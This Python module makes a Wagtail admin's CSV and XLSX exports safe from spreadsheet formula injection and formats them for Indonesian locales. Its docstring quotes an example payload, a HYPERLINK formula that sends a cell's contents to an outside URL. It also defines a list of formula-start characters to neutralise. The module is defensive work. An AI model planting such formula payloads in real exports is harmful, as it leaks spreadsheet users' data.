"""Every spreadsheet the admin exports: safe (no formulas), and readable in Indonesia.

**No formulas (CSV injection).** A text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab
or a carriage return is read by Excel, LibreOffice and Google Sheets as a formula, so a business
called ``=HYPERLINK("http://…?d="&A1,"Klik")`` would run in a coordinator's spreadsheet.
Following OWASP's recommendation, such a CSV cell gets a leading single quote; spreadsheets show
the text, and a reader can still see what was typed. Numbers, dates and empty cells are left as
they are (-3 stays the number -3). In XLSX files every text cell is written as text (never as
a formula, nor as an error value such as ``#N/A``) and keeps its text unchanged.

**CSV for Indonesian spreadsheets.** Excel opens a CSV by double-click with the list and
decimal separators of the computer's regional settings, and LibreOffice offers those of its
locale. For Indonesian (CLDR ``id``, Windows ``id-ID``, glibc ``id_ID``) the list separator is
``;`` and the decimal separator ``,`` (the period groups thousands): a comma-separated file
with ``12.5`` would open as one column, and ``12.5`` would read as twelve thousand five hundred.
So a CSV is UTF-8 with a byte order mark (without it Excel reads UTF-8 as the legacy code page
and mangles names), fields separated by ``;``, lines ending in CRLF (RFC 4180), decimals
written with a comma and no thousands separator. (A ``sep=;`` first line would also steer
Excel, but Excel then ignores the byte order mark, and other programs show it as a row.)

**Values.** Times are Asia/Jakarta (``TIME_ZONE``) to the second, ``2026-11-30 14:05:09``;
dates ISO, ``2026-11-30``; a missing value is an empty cell, never "None". In XLSX, numbers
stay numbers and dates and times are real dates and times in the same format.

`install()` (from the app's ready()) puts this into Wagtail's `SpreadsheetExportMixin`, which
makes every CSV and XLSX export of the admin: the reports, the certificate list and Wagtail's
own reports (site history, for one, shows learners' names).
"""

import csv
import datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

from django.conf import settings
from django.utils import timezone
from django.utils.text import slugify

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
CSV_DELIMITER = ";"
CSV_LINE_END = "\r\n"
DECIMAL_SEPARATOR = ","
BYTE_ORDER_MARK = "\ufeff"
DATETIME_FORMAT = "%Y-%m-%d %H:%M:%S"
XLSX_DATETIME_FORMAT = "yyyy-mm-dd hh:mm:ss"
XLSX_DATE_FORMAT = "yyyy-mm-dd"


def neutralise_cell(value):
    """``value`` as a CSV cell that no spreadsheet reads as a formula: text starting with a
    formula character gets a leading ``'``; anything else comes back as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def local_time(value: datetime.datetime) -> datetime.datetime:
    """An aware time as the naive wall-clock time in Jakarta, to the second (a naive time is
    taken to be Jakarta's already)."""
    if value.tzinfo is not None:
        value = value.astimezone(ZoneInfo(settings.TIME_ZONE)).replace(tzinfo=None)
    return value.replace(microsecond=0)


def decimal_text(value: Decimal | float) -> str:
    """A number with a decimal comma and no exponent or thousands separator: ``12,5``."""
    number = value if isinstance(value, Decimal) else Decimal(repr(value))
    return format(number, "f").replace(".", DECIMAL_SEPARATOR)


def csv_cell(value):
    """``value`` as it is written to a CSV cell: an empty cell for None, a Jakarta time to the
    second, an ISO date, a decimal comma, and text that can never start a formula."""
    if value is None:
        return ""
    if isinstance(value, datetime.datetime):
        return local_time(value).strftime(DATETIME_FORMAT)
    if isinstance(value, datetime.date):
        return value.isoformat()
    if isinstance(value, (Decimal, float)):
        return decimal_text(value)
    return neutralise_cell(value)


def xlsx_cell(value):
    """``value`` as it is written to an XLSX cell: a time becomes Jakarta's, to the second;
    numbers, dates and empty cells stay what they are."""
    if isinstance(value, datetime.datetime):
        return local_time(value)
    return value


def safe_filename(*parts) -> str:
    """A file name (without extension) from ``parts``, each slugified to ASCII letters, digits
    and hyphens, joined by ``_``; empty parts are left out: ``peserta_pemasaran-digital_sleman``."""
    slugs = [slugify(str(part)).replace("_", "-") for part in parts if part not in (None, "")]
    return "_".join(slug for slug in slugs if slug) or "export"


def export_filename(what: str, *, course=None, filters=None, day=None) -> str:
    """A report's file name (without extension): ``what`` it holds, the course's slug, each
    applied filter's value and the date (``day``, else today in Jakarta), in safe ASCII, e.g.
    ``peserta_pemasaran-digital_sleman_2026-11-30``. ``filters``: a filter's name to its value
    (an object, a choice, a date range, a label); empty values are left out."""
    day = day or local_time(timezone.now()).date()
    values = [_filter_text(value) for value in (filters or {}).values()]
    return safe_filename(what, course.slug if course else "", *values, day)


def _filter_text(value) -> str:
    if isinstance(value, slice):  # a date range
        return "-".join(str(end) for end in (value.start, value.stop) if end)
    if isinstance(value, (list, tuple)):
        return "-".join(_filter_text(item) for item in value)
    if value in (None, ""):
        return ""
    return str(getattr(value, "name", None) or getattr(value, "slug", None) or value)


class _Line:
    """The csv writer's file: hands back each line it is given."""

    def write(self, value):
        return value


def install() -> None:
    """Make Wagtail's `SpreadsheetExportMixin`, which every admin export uses, write CSV and
    XLSX cells by the rules above (no formulas; Indonesian CSV; Jakarta times). Idempotent."""
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    if getattr(SpreadsheetExportMixin, "cells_neutralised", False):
        return
    preprocess_field_value = SpreadsheetExportMixin.preprocess_field_value
    generate_xlsx_row = SpreadsheetExportMixin.generate_xlsx_row
    get_heading = SpreadsheetExportMixin.get_heading
    write_csv_response = SpreadsheetExportMixin.write_csv_response

    def safe_preprocess_field_value(self, field, value, export_format):
        if export_format == self.FORMAT_XLSX:
            value = xlsx_cell(value)
        value = preprocess_field_value(self, field, value, export_format)
        return csv_cell(value) if export_format == self.FORMAT_CSV else value

    def safe_generate_xlsx_row(self, worksheet, row_dict, date_format=None):
        for cell in generate_xlsx_row(self, worksheet, row_dict, date_format=date_format):
            if isinstance(cell.value, str):
                cell.data_type = "s"  # openpyxl would make "=…" a formula, "#N/A" an error
            elif isinstance(cell.value, datetime.datetime):
                cell.number_format = XLSX_DATETIME_FORMAT
            elif isinstance(cell.value, datetime.date):
                cell.number_format = XLSX_DATE_FORMAT
            yield cell

    def safe_get_heading(self, queryset, field):
        return neutralise_cell(get_heading(self, queryset, field))

    def stream_csv(self, queryset):
        """The CSV's lines, one at a time (the rows are never held all at once)."""
        writer = csv.DictWriter(
            _Line(),
            fieldnames=self.list_export,
            delimiter=CSV_DELIMITER,
            lineterminator=CSV_LINE_END,
        )
        heading = writer.writerow(
            {field: self.get_heading(queryset, field) for field in self.list_export}
        )
        yield (BYTE_ORDER_MARK + heading).encode()
        for item in queryset:
            yield self.write_csv_row(writer, self.to_row_dict(item)).encode()

    def csv_response(self, queryset):
        response = write_csv_response(self, queryset)
        response["Content-Type"] = "text/csv; charset=utf-8"
        return response

    SpreadsheetExportMixin.preprocess_field_value = safe_preprocess_field_value
    SpreadsheetExportMixin.generate_xlsx_row = safe_generate_xlsx_row
    SpreadsheetExportMixin.get_heading = safe_get_heading
    SpreadsheetExportMixin.stream_csv = stream_csv
    SpreadsheetExportMixin.write_csv_response = csv_response
    SpreadsheetExportMixin.cells_neutralised = True
